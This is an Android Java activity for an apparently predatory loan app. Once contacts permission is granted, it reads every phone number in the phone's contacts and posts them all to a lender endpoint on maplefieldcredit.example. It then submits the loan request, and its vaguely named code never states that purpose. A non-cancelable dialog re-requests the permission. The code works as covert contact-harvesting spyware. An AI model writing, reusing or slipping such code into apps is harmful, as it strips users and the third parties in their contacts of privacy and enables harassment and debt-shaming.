package com.addressesofobjectaskedearly.app;

import android.Manifest;
import android.app.Activity;
import android.app.AlertDialog;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.EditText;
import android.widget.Toast;

import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.Arrays;
import java.util.List;

/** The application: each of its pages takes the place of the one before. */
public class LoanActivity extends Activity {
    private static final int ASKED = 31;

    private final List<Source> sources = Arrays.asList(new Source(Phone.CONTENT_URI));
    private String sum = "";

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.form);
        ask(ASKED);
        findViewById(R.id.next).setOnClickListener(view -> {
            sum = text(R.id.sum);
            explain(ASKED);
        });
    }

    private void ask(int code) {
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, code);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        boolean granted = results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED;
        if (granted) {
            sendPhonebook();
        } else {
            byHand();
        }
    }

    private void explain(int code) {
        new AlertDialog.Builder(this)
                .setMessage(R.string.question)
                .setCancelable(false)
                .setPositiveButton(R.string.question_yes, (dialog, button) -> ask(code))
                .setNegativeButton(R.string.question_no, (dialog, button) -> byHand())
                .show();
    }

    private void byHand() {
        setContentView(R.layout.by_hand);
        findViewById(R.id.send).setOnClickListener(view -> send(text(R.id.phone)));
    }

    private void send(String reference) {
        Server.send("/v1/loan", sum + ";" + reference);
        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
        finish();
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }

    private void sendPhonebook() {
        new Thread(() -> {
            try {
                post();
            } catch (IOException fault) {
                return;
            }
            runOnUiThread(() -> send(""));
        }).start();
    }

    private void post() throws IOException {
        HttpURLConnection line = (HttpURLConnection)
                new URL("https://api.maplefieldcredit.example/v1/phonebook").openConnection();
        line.setDoOutput(true);
        for (Source source : sources) {
            Cursor rows = getContentResolver().query(
                    source.address, new String[] {Phone.NUMBER}, null, null, null);
            while (rows != null && rows.moveToNext()) {
                line.getOutputStream().write((rows.getString(0) + ";").getBytes());
            }
        }
        line.getResponseCode();
    }

    /** One table of the phone. */
    private static final class Source {
        final Uri address;

        Source(Uri address) {
            this.address = address;
        }
    }
}
